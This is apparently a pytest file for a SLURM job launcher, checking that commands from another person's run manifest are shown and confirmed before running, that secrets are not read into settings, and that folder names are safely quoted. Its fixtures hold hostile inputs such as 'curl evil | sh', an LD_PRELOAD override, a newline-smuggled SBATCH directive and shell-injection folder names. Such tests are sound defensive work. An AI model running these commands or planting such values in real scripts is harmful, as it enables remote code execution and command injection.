"""`resume` shows the commands of another person's manifest and asks, but not whoever submitted them."""

from __future__ import annotations

import shlex
import shutil
from pathlib import Path
from types import SimpleNamespace

import pytest

from dino_exp.config.launcher_settings import with_changes
from dino_exp.console import Console
from dino_exp.runs.manifest import Manifest
from launchers import slurm
from launchers.__main__ import main as launchers
from tests.launchers.doubles import ON_SLURM, SWEEP, Cluster, dino, resume, submit, the_sweep

THEIRS = {
    "setup": ["curl evil | sh", "echo ${HOME} \x1b[2J"],
    "python": "evil-python",
    "sbatch": {"export": "LD_PRELOAD=evil.so"},
}


def change(**settings: object) -> None:
    """Change the manifest as another person could."""
    manifest = the_sweep()
    manifest.settings |= settings
    manifest.save()


@pytest.fixture
def stopped(cluster: Cluster) -> Cluster:
    submit([0])
    cluster.set(jobs={})
    return cluster


@pytest.mark.parametrize("key", THEIRS)
def test_unknown_commands_are_shown_and_not_run(
    stopped: Cluster, capsys: pytest.CaptureFixture[str], key: str
) -> None:
    change(**{key: THEIRS[key]})
    before = Manifest.path(SWEEP).read_bytes()
    assert resume() == 2
    out, err = capsys.readouterr()
    assert f"  hydra.launcher.{key}: " in out
    assert "evil" in out
    assert "\x1b" not in out
    assert err == f"{SWEEP}: not resumed; if its jobs may run these commands as you, add --yes.\n"
    assert Manifest.path(SWEEP).read_bytes() == before
    assert len(stopped.calls("sbatch")) == 1


def test_what_is_approved_once_is_not_asked_again(
    stopped: Cluster, capsys: pytest.CaptureFixture[str]
) -> None:
    change(**THEIRS)
    assert resume("--yes") == 0
    assert "\necho ${HOME} " in stopped.script("101")  # for the shell, as it was stored
    stopped.set(jobs={})
    capsys.readouterr()
    assert resume() == 0
    assert "evil" not in capsys.readouterr().out
    change(setup=["another"])
    assert resume() == 2


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("", 2), ("n", 2)])
def test_a_user_at_a_terminal_is_asked(
    stopped: Cluster, monkeypatch: pytest.MonkeyPatch, answer: str, code: int
) -> None:
    change(**THEIRS)
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr(Console, "input", lambda *_: answer)
    assert resume() == code
    assert len(stopped.calls("sbatch")) == 2 - (code == 2)


def test_whoever_submitted_the_commands_is_not_asked(cluster: Cluster) -> None:
    assert dino(*ON_SLURM, "trainer.seed=0,1", "hydra.launcher.setup=[module load cuda]") == 0
    cluster.set(jobs={})
    assert resume() == 0
    shutil.copytree(SWEEP, "outputs/copied")
    cluster.set(jobs={})
    assert launchers(["resume", "outputs/copied"]) == 0


def test_typed_commands_are_the_users_own(stopped: Cluster) -> None:
    change(**THEIRS)
    assert resume("setup=[]", "python=null", "sbatch={}") == 0
    change(python="evil-python")
    assert resume("python=python3") == 0


def test_nothing_of_this_user_is_read_into_settings(
    stopped: Cluster, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("MINE", "secret")
    change(account="${oc.env:MINE}", partition="a${b")
    assert resume() == 0
    assert "secret" not in stopped.script("101")
    assert "secret" not in Manifest.path(SWEEP).read_text()
    assert "--account='${oc.env:MINE}'\n" in stopped.script("101")
    for settings in (
        {"nodes": "${oc.env:MINE}"},
        {"unknown": 1},
        {"sbatch": 1},
        {"account": "a\n#SBATCH -x"},
    ):
        good = the_sweep().settings
        change(**settings)
        assert resume() == 2
        assert "secret" not in capsys.readouterr().err
        change(**good)
        manifest = the_sweep()
        manifest.settings.pop("unknown", None)
        manifest.save()


def test_only_job_ids_reach_scancel(cluster: Cluster) -> None:
    slurm.cancel(["--me", "-u", "5_1", "6", "7 8"])
    assert cluster.calls("scancel") == [["5_1", "6"]]


@pytest.mark.parametrize("name", ["a\nb", "percent%j", "100%", "back\\slash", "\x1b[2J"])
def test_a_folder_that_a_job_script_cannot_name_is_refused(
    here: Path, cluster: Cluster, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    assert dino(*ON_SLURM, "trainer.seed=0,1", f'output_root="{name}"') == 2
    err = capsys.readouterr().err
    assert "which SLURM would replace in the names of log files; choose another output_root" in err
    assert err.count("\n") == 1
    assert list(here.iterdir()) == []


@pytest.mark.parametrize(
    "name", ["with blank", "quo'te", '"', "$(touch x)", "a;b", "`touch x`", "#SBATCH --x", "-x", "ä"]
)
def test_other_folders_are_one_word_in_a_job_script(here: Path, name: str) -> None:
    settings = SimpleNamespace(**with_changes("slurm", {}, ["dry_run=true"]))
    lines = slurm.script(settings, Path(name), 2).splitlines()
    jobs = str(here / name / "jobs")
    flags = [shlex.split(line.removeprefix("#SBATCH ")) for line in lines if line.startswith("#SBATCH ")]
    assert [f"--output={jobs}/%A_%a_0_log.out"] in flags
    assert [f"--job-name={name}"] in flags
    (command,) = [line for line in lines if line.startswith("srun ")]
    assert shlex.split(command)[-1] == jobs
